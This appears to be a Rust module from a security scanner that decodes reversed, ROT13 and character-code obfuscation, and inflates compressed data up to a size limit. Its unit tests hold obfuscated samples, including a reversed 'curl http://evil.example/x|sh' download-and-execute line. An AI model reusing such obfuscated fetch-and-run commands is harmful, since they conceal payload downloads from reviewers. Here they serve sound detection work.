//! text → what it hides by turning, shifting, counting out or packing, where the text itself says so. Deliberately
//! absent: guessing. A reversed string is read where something reverses it (`| rev`, `[::-1]`, `strrev`), ROT13 where
//! `tr` or a function undoes it, character codes where `chr` or its like takes them.

use std::io::Read;
use std::sync::LazyLock;

use aho_corasick::packed::Searcher;
use flate2::read::{DeflateDecoder, GzDecoder, ZlibDecoder};

#[derive(Clone, Copy, PartialEq, Eq)]
enum Turn {
    Back,
    Rot13,
    Codes,
}

/// Written as programs write them: searching in one case is several times as fast.
const SIGNS: &[(&str, Turn)] = &[
    ("|rev", Turn::Back),
    ("| rev", Turn::Back),
    ("[::-1]", Turn::Back),
    ("strrev", Turn::Back),
    ("StrReverse", Turn::Back),
    (".reverse", Turn::Back),
    ("::Reverse", Turn::Back),
    ("::reverse", Turn::Back),
    ("[-1..", Turn::Back),
    ("N-ZA-M", Turn::Rot13),
    ("n-za-m", Turn::Rot13),
    ("rot13", Turn::Rot13),
    ("rot_13", Turn::Rot13),
    ("CharCode", Turn::Codes),
    ("chr,", Turn::Codes),
    ("chr(", Turn::Codes),
    ("Chr(", Turn::Codes),
    ("[char", Turn::Codes),
    ("[Char", Turn::Codes),
    ("[CHAR", Turn::Codes),
    ("char(", Turn::Codes),
    ("CHAR(", Turn::Codes),
];

static FINDER: LazyLock<Option<Searcher>> = LazyLock::new(|| Searcher::new(SIGNS.iter().map(|it| it.0)));

/// What is written backwards, in ROT13 or as character codes.
pub(super) fn layers(text: &str, mut push: impl FnMut(String)) {
    // most lines have neither pipe nor call
    if memchr::memchr3(b'|', b'(', b'[', text.as_bytes()).is_none() {
        return;
    }
    let Some(finder) = FINDER.as_ref() else { return };
    let (mut back, mut rot13, mut codes) = (false, false, false);
    for found in finder.find_iter(text) {
        match SIGNS.get(found.pattern().as_usize()).map(|it| it.1) {
            Some(Turn::Back) => back = true,
            Some(Turn::Rot13) => rot13 = true,
            Some(Turn::Codes) => codes = true,
            None => {}
        }
    }
    if back {
        pieces(text, |it| push(it.chars().rev().collect()));
    }
    if rot13 {
        pieces(text, |it| push(it.chars().map(rotated).collect()));
    }
    if codes {
        character_codes(text, push);
    }
}

/// Strings in quotes, and what `echo` or `<<<` gives without them.
fn pieces(text: &str, mut visit: impl FnMut(&str)) {
    let bytes = text.as_bytes();
    let mut at = 0;
    let mut count = 0;
    while let Some(open) = memchr::memchr2(b'"', b'\'', &bytes[at..]).map(|it| at + it) {
        let Some(close) = memchr::memchr(bytes[open], &bytes[open + 1..]).map(|it| open + 1 + it) else { break };
        let inner = &text[open + 1..close];
        // quotes within: the inner ones hold the string
        let nested = inner.contains(['"', '\'']) && inner.len() > 2;
        if inner.len() >= MIN_PIECE && count < MAX_PIECES {
            count += 1;
            visit(inner);
        }
        at = if nested { open + 1 } else { close + 1 };
    }
    for sign in ["echo ", "printf ", "<<<"] {
        if let Some(found) = text.find(sign) {
            let rest = text[found + sign.len()..].trim_start();
            let rest = rest.split(['|', ';', '\n', ')', '`']).next().unwrap_or_default().trim();
            if rest.len() >= MIN_PIECE && !rest.starts_with(['"', '\'']) {
                visit(rest);
            }
        }
    }
}

/// Shorter ones hold no indicator.
const MIN_PIECE: usize = 8;
const MAX_PIECES: usize = 64;

fn rotated(c: char) -> char {
    match c {
        'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
        'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
        _ => c,
    }
}

/// `99,117,114,108`, `chr(99).chr(117)`, `[char]99+[char]117`: each run of at least eight codes is a text.
fn character_codes(text: &str, mut push: impl FnMut(String)) {
    let bytes = text.as_bytes();
    let mut run = String::new();
    let mut at = 0;
    let mut end = 0;
    while at < bytes.len() {
        if !bytes[at].is_ascii_digit() {
            at += 1;
            continue;
        }
        let digits = bytes[at..].iter().take(6).take_while(|b| b.is_ascii_digit()).count();
        let hex = digits == 1 && bytes[at] == b'0' && matches!(bytes.get(at + 1), Some(b'x' | b'X'));
        let (code, taken) = if hex {
            let digits = bytes[at + 2..].iter().take(4).take_while(|b| b.is_ascii_hexdigit()).count();
            (u32::from_str_radix(&text[at + 2..at + 2 + digits], 16).ok(), 2 + digits)
        } else {
            (text[at..at + digits].parse().ok(), digits)
        };
        // between two codes stand a comma, or a call's name and brackets
        if !is_gap(&bytes[end..at]) {
            flush(&mut run, &mut push);
        }
        match code.filter(|it| matches!(it, 9 | 10 | 13 | 0x20..=0x7e)).and_then(char::from_u32) {
            Some(c) => run.push(c),
            None => flush(&mut run, &mut push),
        }
        at += taken;
        end = at;
    }
    flush(&mut run, &mut push);
}

fn is_gap(between: &[u8]) -> bool {
    (1..=16).contains(&between.len())
        && between.iter().all(|b| {
            matches!(b, b',' | b' ' | b'\n' | b'+' | b'.' | b'(' | b')' | b'[' | b']' | b'&' | b'|')
                || b"charwCHARWoO$%".contains(b)
        })
        && between.iter().any(|b| !b.is_ascii_alphabetic())
        && between != b"."
}

fn flush(run: &mut String, push: &mut impl FnMut(String)) {
    if run.len() >= MIN_PIECE {
        push(std::mem::take(run));
    } else {
        run.clear();
    }
}

/// What gzip, zlib or, where the text speaks of it, bare deflate holds: at most `limit` bytes, so that a bomb is
/// read no further.
pub(super) fn inflate(bytes: &[u8], bare: bool, limit: usize) -> Option<Vec<u8>> {
    let limit = limit as u64;
    let mut out = Vec::new();
    // what was read before an error counts: logs cut long lines
    match bytes {
        [0x1f, 0x8b, 8, ..] => drop(GzDecoder::new(bytes).take(limit).read_to_end(&mut out)),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => drop(ZlibDecoder::new(bytes).take(limit).read_to_end(&mut out)),
        _ if bare => drop(DeflateDecoder::new(bytes).take(limit).read_to_end(&mut out)),
        _ => return None,
    }
    (!out.is_empty()).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn once(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        layers(text, |it| out.push(it));
        out
    }

    #[test]
    fn what_the_text_turns_back_is_read() {
        assert_eq!(once("echo 'hs|x/elpmaxe.live//:ptth lruc'|rev|sh"), ["curl http://evil.example/x|sh"]);
        assert_eq!(once("echo x/elpmaxe.live//:ptth | rev"), ["http://evil.example/x"]);
        assert_eq!(once("exec('elpmaxe.live'[::-1])"), ["evil.example"]);
        assert_eq!(once("echo 'uggc://rivy.rknzcyr/e' | tr 'A-Za-z' 'N-ZA-Mn-za-m'")[0], "http://evil.example/r");
        assert_eq!(once("map(chr,[104, 116, 116, 112, 58, 47, 47, 120])"), ["http://x"]);
        assert_eq!(once("[char]104+[char]116+[char]116+[char]112+[char]58+[char]47+[char]47+[char]120"), ["http://x"]);
        assert_eq!(once("chr(104).chr(116).chr(116).chr(112).chr(58).chr(47).chr(47).chr(0x78)"), ["http://x"]);
    }

    #[test]
    fn without_a_sign_nothing_is_turned() {
        for text in [
            "echo 'elpmaxe.live//:ptth' (x)",
            "a[104,116,116,112,58,47,47,120]",
            "",
            "|",
            "chr(",
            "'| rev",
            "char(1.2.3.4)",
        ] {
            assert_eq!(once(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn a_bomb_is_read_to_the_limit() {
        use std::io::Write as _;
        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        for _ in 0..64 {
            packed.write_all(&[b'a'; 1 << 20]).unwrap();
        }
        let packed = packed.finish().unwrap();
        assert_eq!(inflate(&packed, false, 1 << 20).map(|it| it.len()), Some(1 << 20));
        assert_eq!(inflate(b"nothing packed", false, 100), None);
    }
}
